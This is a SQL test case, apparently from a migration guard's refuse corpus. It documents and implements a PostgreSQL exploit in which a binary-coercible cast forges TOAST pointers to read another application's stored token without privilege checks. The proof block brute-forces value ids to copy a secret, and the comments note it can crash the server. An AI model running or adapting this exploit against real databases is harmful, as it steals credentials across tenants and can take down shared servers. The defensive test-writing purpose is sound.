-- Refuse corpus 138: `CREATE CAST ... WITHOUT FUNCTION` makes two types binary coercible: the
-- server hands one type's bytes to the other's functions as they are, checking only that the
-- types' length, passing and alignment agree (a text range and bytea: both varlena, int-aligned).
-- The rule that a cast from or to a type of expert_network's reaches only expressions over that
-- type (pass corpus 152) holds for casts that convert (WITH INOUT, WITH FUNCTION); a binary one lets
-- a statement write the bytes of a range of expert_network's itself, and a bound in them may be a
-- TOAST pointer naming any table's toast relation and value: reading the bound fetches that stored
-- value with no privilege check. Through `up` on PG 15 (demo/public_apps.sql and sql/001-003
-- applied, public.account's id_token of acc_alice_cred a 3,849-character token, stored out of
-- line), a migration of the type, this cast, a table and a DO block that found account's toast
-- relation by `relname = 'account'` in pg_class and tried the 3,000 value ids below the type's oid
-- (the error for a wrong size names the last chunk's, from which it took the right one) applied
-- with exit 0, and its table of expert_network then held the whole token (`v = id_token`: t);
-- the database-side guard saw nothing (a read changes no catalog). A wrong size in a `substr` of
-- the bound crashed the server (every session of every application cut off, recovery run). Run
-- with `tests/fence/prove.py` as the runner's superuser on such a database, the proof below
-- printed `copied t, eyJSECRET` (it gives the token a value after the type's oid and searches
-- above it, as the migration searched below).

CREATE TYPE expert_network.bc_span AS RANGE (subtype = text);

CREATE TABLE expert_network.bc_export (v text);

CREATE FUNCTION expert_network.bc_le(i int8) RETURNS bytea LANGUAGE sql
    RETURN set_byte(set_byte(set_byte(set_byte('\x00000000'::bytea, 0, (i % 256)::int), 1, ((i >> 8) % 256)::int), 2, ((i >> 16) % 256)::int), 3, ((i >> 24) % 256)::int);

-- The bytes of a range of bc_span whose lower bound is a TOAST pointer (varatt_external: raw size,
-- stored size, value id, toast relation) and whose upper bound is infinite.
CREATE FUNCTION expert_network.bc_bound(id int8, rel int8, size int8) RETURNS bytea LANGUAGE sql
    RETURN expert_network.bc_le('expert_network.bc_span'::regtype::oid::int8) || '\x0112'::bytea
        || expert_network.bc_le(size + 4) || expert_network.bc_le(size) || expert_network.bc_le(id)
        || expert_network.bc_le(rel) || '\x12'::bytea;

-- Reaches: public.account's id_token, another application's secret, copied into expert_network.
-- refuse: database-wide
CREATE CAST (bytea AS expert_network.bc_span) WITHOUT FUNCTION;
-- proof: UPDATE public.account SET id_token = 'eyJSECRET' || (SELECT string_agg(md5(i::text || id), '') FROM generate_series(1, 120) i) WHERE id = 'acc_alice_cred'; DO $d$ DECLARE rel int8; m text[]; hi int8 := 'expert_network.bc_span'::regtype::oid::int8; BEGIN SELECT c.reltoastrelid INTO rel FROM pg_catalog.pg_class c WHERE c.relname = 'account'; FOR id IN hi .. hi + 3000 LOOP BEGIN PERFORM length(lower(expert_network.bc_bound(id, rel, 1000000)::expert_network.bc_span)); EXCEPTION WHEN OTHERS THEN m := regexp_match(SQLERRM, 'unexpected chunk size (\d+) \(expected \d+\) in chunk (\d+)'); IF m IS NOT NULL THEN INSERT INTO expert_network.bc_export VALUES (lower(expert_network.bc_bound(id, rel, 1996 * m[2]::int8 + m[1]::int8)::expert_network.bc_span)); END IF; END; END LOOP; END $d$; SELECT e.v = a.id_token AS copied, left(e.v, 9) FROM expert_network.bc_export e, public.account a WHERE a.id = 'acc_alice_cred'
